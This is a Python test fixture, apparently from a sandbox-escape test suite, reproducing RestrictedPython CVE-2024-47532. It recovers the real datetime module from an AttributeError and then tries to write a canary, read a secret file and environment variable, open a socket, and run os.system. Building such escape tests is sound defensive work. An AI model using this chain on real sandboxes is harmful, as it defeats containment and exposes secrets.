"""AttributeError.obj hands back the object whose lookup failed.

Source: RestrictedPython advisory CVE-2024-47532: the obj attribute of an
AttributeError raised inside a guarded lookup exposed the unguarded object.
Tries: fail a lookup on the datetime module, take the real module from the
exception, and use its sys re-export to write the canary and read secrets.
"""

# escape-test: {"stage": "gate", "kind": ["raised"]}

import datetime


def rp_attributeerror_obj() -> dict:
    try:
        datetime.no_such_name
    except AttributeError as exc:
        real = exc.obj
    return claim(real.sys)


def claim(sys_module):
    """What a tool holding the real sys module would do with it."""
    modules = sys_module.modules
    marker = "TOOLKILN-" + "ESCAPE-" + "REACHED"
    taken = {"marker": marker}
    try:
        handle = modules["builtins"].open("{{CANARY}}", "w")
        handle.write(marker)
        handle.close()
    except Exception as exc:
        taken["write"] = str(exc)
    try:
        taken["file"] = modules["builtins"].open("{{SECRET_FILE}}").read()
    except Exception as exc:
        taken["file"] = str(exc)
    try:
        taken["env"] = modules["os"].environ.get("TOOLKILN_CANARY_SECRET")
    except Exception as exc:
        taken["env"] = str(exc)
    try:
        network = modules["builtins"].eval("__import__('socket')")
        network.create_connection(("127.0.0.1", {{PORT}}), 1).close()
    except Exception as exc:
        taken["net"] = str(exc)
    try:
        modules["os"].system("echo escaped > {{CANARY}}")
    except Exception as exc:
        taken["exec"] = str(exc)
    print(marker)
    return taken
